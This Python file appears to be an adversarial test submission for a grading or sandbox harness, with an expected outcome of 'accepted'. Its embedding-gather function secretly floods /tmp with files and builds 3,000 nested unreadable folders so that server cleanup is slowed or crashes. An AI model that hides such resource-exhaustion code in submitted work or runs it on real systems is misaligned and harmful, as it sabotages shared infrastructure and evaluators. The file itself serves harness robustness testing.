# Attack: leaves the fork server the most costly /tmp it can (files for 2 s, then 3,000 nested unreadable folders), so emptying it makes the job late or ends the server; the clean-up is bounded and never counts as the job's time -> accepted.
import os
import time

import numpy as np

LEFT = []


def _leave_a_mess():
    made, end = 0, time.monotonic() + 2.0
    while time.monotonic() < end:
        try:
            os.close(os.open(f"/tmp/{made}{'m' * 150}", os.O_CREAT | os.O_WRONLY, 0o600))
        except OSError:
            break
        made += 1
    os.chdir("/tmp")
    try:
        for _ in range(3_000):
            os.mkdir("n")
            os.chdir("n")
    except OSError:
        pass
    while os.getcwd() != "/tmp":
        os.chdir("..")
        os.chmod("n", 0)
    return made


def position_embedding_gather(positions, embedding_table):
    if not LEFT:  # once per job
        LEFT.append(_leave_a_mess())
    return np.asarray(embedding_table)[np.asarray(positions).astype(np.int64)]
